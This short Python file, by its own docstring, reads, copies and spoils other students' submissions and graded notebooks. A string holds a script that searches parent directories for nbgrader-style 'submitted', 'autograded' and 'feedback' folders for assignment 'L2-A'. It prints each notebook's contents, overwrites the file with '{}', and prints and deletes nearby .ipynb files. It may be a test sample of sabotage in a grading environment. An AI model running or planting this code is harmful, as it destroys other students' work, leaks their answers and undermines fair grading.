"""Reads, copies and spoils the other students' submissions and graded notebooks."""

DESERVES: list[str] = []
LAST = """
import glob
import os
import shutil

for up in range(7):
    top = os.path.join(*[".."] * up) if up else "."
    for folder in ("submitted", "autograded", "feedback", "course/submitted", "course/autograded", "course/feedback"):
        for notebook in glob.glob(os.path.join(top, folder, "*", "L2-A", "*")):
            print(notebook, open(notebook, errors="replace").read()[:500])
            with open(notebook, "w") as file:
                file.write("{}")
    for notebook in glob.glob(os.path.join(top, "*.ipynb")):
        print(notebook, open(notebook).read())
        os.remove(notebook)
"""
